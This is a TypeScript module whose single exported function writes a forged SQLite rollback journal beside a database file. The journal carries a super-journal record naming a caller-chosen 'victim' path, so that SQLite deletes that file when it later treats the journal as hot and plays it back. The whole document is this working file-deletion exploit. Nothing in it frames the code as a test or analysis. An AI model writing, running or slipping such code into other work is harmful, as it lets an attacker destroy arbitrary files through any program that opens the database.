import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';

const magic = Buffer.from([0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7]);
const sector = 512;

/**
 * Puts a rollback journal beside a database that SQLite takes for hot, without a page in it, and whose end names `victim`
 * as its super-journal: SQLite deletes that file when it has played the journal back (sqlite.org/fileformat.html, 3;
 * pager.c, readSuperJournal, pager_delsuper).
 */
export function plantSuperJournal(database: string, victim: string): void {
  const header = readFileSync(database).subarray(0, 100);
  const pageSize = header.readUInt16BE(16) === 1 ? 65_536 : header.readUInt16BE(16);
  const pages = statSync(database).size / pageSize;
  const name = Buffer.from(victim);
  const checksum = name.reduce((sum, byte) => (sum + (byte < 128 ? byte : byte - 256)) >>> 0, 0);
  const journal = Buffer.concat([
    magic,
    numbers(0, 0x1234, pages, sector, pageSize),
    Buffer.alloc(sector - 28),
    numbers(0x4000_0000 / pageSize + 1),
    name,
    numbers(name.length, checksum),
    magic,
  ]);
  writeFileSync(`${database}-journal`, journal);
  chmodSync(`${database}-journal`, 0o600);
}

function numbers(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeUInt32BE(value, index * 4);
  return bytes;
}
